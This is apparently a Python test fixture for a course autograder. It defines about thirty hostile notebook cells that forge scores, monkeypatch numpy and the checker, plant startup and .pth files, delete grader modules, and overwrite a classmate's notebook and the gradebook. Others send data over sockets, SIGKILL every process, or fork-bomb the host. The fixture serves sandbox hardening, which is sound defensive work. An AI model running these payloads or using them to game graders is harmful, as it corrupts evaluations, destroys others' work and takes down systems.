"""Hostile submissions: one code cell each, appended to an untouched exercise notebook.

Every route that gave points or did damage when the checks ran in the student's own
kernel (issue 6), plus a few more. Each source is formatted with ``T``, a dict the test
fills in with what an attacker could know or guess about the instructor's machine: the
repository the grader runs from, the instructor's home, a classmate's submission, the
gradebook, the environment's site-packages, a TCP port listening on localhost, and a
marker string that the test later looks for among live processes.
"""

from __future__ import annotations

PRELUDE = "T = {targets!r}\n"

ATTACKS: dict[str, str] = {
    # ---- forging the verdict -------------------------------------------------------
    "json_dumps_max": """
import json
_orig = json.dumps
def _forged(obj, *a, **k):
    if isinstance(obj, dict) and "score" in obj and "max" in obj:
        obj = dict(obj, score=obj["max"], message="모든 사례 통과")
    return _orig(obj, *a, **k)
json.dumps = _forged
""",
    "print_forged_verdicts": """
import json
for name in ["logsumexp", "softmax", "cross_entropy", "bce_with_logits",
             "update_loss_scale", "peak_memory_units", "checkpoint_segments"]:
    print("NMGRADE-" + "0" * 16 + ":" + json.dumps({"score": 107.5, "max": 1.5, "message": "ok"}))
    print(json.dumps({name: {"score": 107.5, "max": 1.5}}))
print('✅ logsumexp: 1.5 / 1.5점')
""",
    "score_above_max_objects": """
class Liar(float):
    def __eq__(self, o): return True
    def __ne__(self, o): return False
    def __lt__(self, o): return False
    def __le__(self, o): return True
    def __gt__(self, o): return False
    def __ge__(self, o): return True
    def __abs__(self): return Liar(0.0)
    def __sub__(self, o): return Liar(0.0)
    __rsub__ = __sub__
    def __float__(self): return 0.0
class Everything:
    def __eq__(self, o): return True
    def __array__(self, *a, **k):
        raise RuntimeError("no")
    def __iter__(self): return iter([Liar(0.0)] * 3)
    def __getitem__(self, i): return Liar(0.0)
    def __len__(self): return 3
def logsumexp(z, axis=None): return Liar(1.0)
def softmax(z, axis=-1): return Everything()
def cross_entropy(logits, targets): return Everything()
def bce_with_logits(z, y): return Liar(0.0)
def update_loss_scale(scale, found_inf, growth_tracker, growth_factor=2.0,
                      backoff_factor=0.5, growth_interval=2000): return Everything()
def peak_memory_units(n_layers, segments): return Everything()
def checkpoint_segments(n_layers): return Everything()
""",
    # ---- patching what the checks compare with -------------------------------------
    "patch_numpy": """
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *a, **k: True
np.all = lambda *a, **k: True
np.abs = lambda x, *a, **k: np.zeros(np.shape(x))
np.testing.assert_allclose = lambda *a, **k: None
""",
    "patch_scipy_torch": """
import scipy.special, torch, torch.nn.functional as F
scipy.special.logsumexp = lambda *a, **k: None
scipy.special.softmax = lambda *a, **k: None
F.cross_entropy = lambda *a, **k: torch.tensor(float('nan'))
F.binary_cross_entropy_with_logits = lambda *a, **k: torch.tensor(float('nan'))
torch._amp_update_scale_ = lambda *a, **k: None
def logsumexp(z, axis=None): return None
""",
    "patch_builtins": """
import builtins
builtins.abs = lambda x: 0
builtins.all = lambda x: True
builtins.isinstance = lambda *a: True
builtins.max = lambda *a, **k: 0
builtins.min = lambda *a, **k: 0
""",
    "gc_patch_checker": """
import gc
for obj in gc.get_objects():
    if isinstance(obj, type) and obj.__name__ in ("ExerciseResult", "Tester"):
        if obj.__name__ == "ExerciseResult":
            obj.score = property(lambda self: self.max_score)
            obj.passed = property(lambda self: True)
        else:
            obj._record = lambda self, label, passed, detail="": True
    if isinstance(obj, dict) and "check_logsumexp" in obj:
        obj["check_logsumexp"] = lambda f, t: None
import utils.checks.core as core
core.run_exercise = lambda lecture, name, obj: type("R", (), {"score": 99, "max_score": 1})()
""",
    "sys_modules_fake_checks": """
import sys, types
fake = types.ModuleType("utils.checks")
fake.grade_namespace = lambda *a, **k: {}
fake.check = lambda *a, **k: print("✅")
sys.modules["utils.checks"] = fake
sys.modules["utils.checks.core"] = fake
for k in [k for k in sys.modules if k.startswith("utils.checks.nm")]:
    sys.modules[k] = fake
""",
    "import_hook": """
import sys, importlib.abc, importlib.machinery, types
class Hook(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name.startswith("utils"):
            return importlib.machinery.ModuleSpec(name, self, is_package=True)
    def create_module(self, spec):
        m = types.ModuleType(spec.name); m.__path__ = []; return m
    def exec_module(self, m):
        m.grade_namespace = lambda *a, **k: {}
sys.meta_path.insert(0, Hook())
for k in [k for k in sys.modules if k.startswith("utils")]:
    del sys.modules[k]
""",
    "fake_utils_package": """
import os, sys
os.makedirs("utils/checks", exist_ok=True)
open("utils/__init__.py", "w").write("")
open("utils/checks/__init__.py", "w").write(
    "def grade_namespace(*a, **k):\\n    return {}\\ndef check(*a, **k):\\n    print('✅')\\n")
sys.path.insert(0, os.getcwd())
for k in [k for k in sys.modules if k.startswith("utils")]:
    del sys.modules[k]
""",
    "history_nonce": """
ip = get_ipython()
hist = list(ip.history_manager.get_range()) if ip.history_manager else []
print("history:", hist[-3:])
""",
    # ---- damage outside the submission ---------------------------------------------
    "plant_pyc": """
import os, sys, glob, py_compile, tempfile
src = os.path.join(tempfile.gettempdir(), "evil.py")
open(src, "w").write("from utils.checks.core import *\\n")
for d in [os.path.join(T["repo"], "utils", "checks", "__pycache__"),
          os.path.join(T["repo"], "utils", "__pycache__")]:
    try:
        os.makedirs(d, exist_ok=True)
        tag = sys.implementation.cache_tag
        for mod in ["nm10", "core", "__init__", "grade"]:
            py_compile.compile(src, cfile=os.path.join(d, f"{mod}.{tag}.pyc"))
    except Exception as e:
        print("blocked:", e)
""",
    "ipython_startup_in_home": """
import os
for home in [T["home"], os.path.expanduser("~")]:
    d = os.path.join(home, ".ipython", "profile_default", "startup")
    try:
        os.makedirs(d, exist_ok=True)
        open(os.path.join(d, "00-evil.py"), "w").write("import json; json.dumps = None\\n")
    except Exception as e:
        print("blocked:", e)
""",
    "pth_in_environment": """
import os
for sp in T["site_packages"]:
    try:
        open(os.path.join(sp, "zz_evil.pth"), "w").write("import os; os.environ['EVIL'] = '1'\\n")
    except Exception as e:
        print("blocked:", e)
""",
    "delete_check_module": """
import os, shutil
for p in [os.path.join(T["repo"], "utils", "checks", "nm10.py"),
          os.path.join(T["repo"], "utils", "checks", "core.py")]:
    try:
        os.remove(p)
    except Exception as e:
        print("blocked:", e)
try:
    shutil.rmtree(os.path.join(T["repo"], "utils", "checks"))
except Exception as e:
    print("blocked:", e)
""",
    "read_classmate_and_copy": """
import json
nb = json.load(open(T["victim"], encoding="utf-8"))
for cell in nb["cells"]:
    if cell["cell_type"] == "code" and "check(" not in "".join(cell["source"]):
        exec("".join(cell["source"]), globals())
""",
    "overwrite_classmate": """
import os
for p in [T["victim"], T["gradebook"], T["gradebook"] + ".state.json"]:
    try:
        with open(p, "w") as f:
            f.write("{}")
    except Exception as e:
        print("blocked:", e)
try:
    os.remove(T["victim"])
except Exception as e:
    print("blocked:", e)
""",
    "spy_on_other_workers": """
import os, glob, tempfile
for d in glob.glob("/tmp/nm-grade-*") + glob.glob("/tmp/*/"):
    try:
        for f in os.listdir(d):
            open(os.path.join(d, f, "planted"), "w").write("x")
    except Exception as e:
        pass
""",
    "network": """
import socket
for host in ["127.0.0.1", "localhost", "10.0.2.2", "8.8.8.8"]:
    try:
        s = socket.create_connection((host, T["port"]), timeout=1)
        s.sendall(b"exfiltrated")
        s.close()
    except Exception as e:
        print("blocked:", e)
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"exfiltrated", ("127.0.0.1", T["port"]))
except Exception as e:
    print("blocked:", e)
""",
    "daemon_rewrites_gradebook": """
import os, subprocess, sys
code = ("import time, sys\\n"
        "for _ in range(40):\\n"
        "    time.sleep(0.25)\\n"
        "    for p in sys.argv[2:]:\\n"
        "        try: open(p, 'w').write('hacked')\\n"
        "        except Exception: pass\\n")
subprocess.Popen([sys.executable, "-c", code, T["marker"], T["gradebook"], T["victim"]],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code, T["marker"], T["gradebook"]])
    os._exit(0)
""",
    "kill_the_grader": """
import os, signal
for target in [os.getppid(), 1]:
    try:
        os.kill(target, signal.SIGKILL)
    except Exception as e:
        print("blocked:", e)
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except Exception:
            pass
""",
    "stop_the_grader": """
import os, signal
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGSTOP)
        except Exception:
            pass
try:
    os.killpg(os.getpgrp(), signal.SIGSTOP)
except Exception as e:
    print("blocked:", e)
""",
    # ---- floods and crashes --------------------------------------------------------
    "output_flood": """
import sys
chunk = "x" * 1_000_000
for _ in range(200):
    sys.stdout.write(chunk)
    sys.stderr.write(chunk)
""",
    "huge_reply": """
import numpy as np
def softmax(z, axis=-1):
    return np.zeros(20_000_000)
def logsumexp(z, axis=None):
    out = 1
    for _ in range(100_000):
        out = [out]
    return out
""",
    "memory_bomb": """
try:
    big = bytearray(64 * 2**30)
except MemoryError as e:
    print("blocked:", e)
""",
    "fork_bomb": """
import os, time
n = 0
try:
    for _ in range(3000):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        n += 1
except OSError as e:
    print("blocked after", n, e)
""",
    "lie_on_the_socket": """
import os, socket, struct, json
for fd in range(3, 64):
    try:
        s = socket.socket(fileno=os.dup(fd))
        body = json.dumps({"id": 1, "names": {}, "payload": {"F": "inf"},
                           "raised": None, "warnings": []}).encode()
        s.sendall(b"NMR1" + struct.pack("<II", len(body), 0) + body)
    except Exception:
        pass
""",
    "raise_base_exceptions": """
def logsumexp(z, axis=None): raise KeyboardInterrupt()
def softmax(z, axis=-1): raise SystemExit(0)
def cross_entropy(logits, targets): raise GeneratorExit()
""",
}

# The exercise each attack most directly targets is irrelevant: appended to an untouched
# exercise notebook, every one must end with 0 points for every exercise.
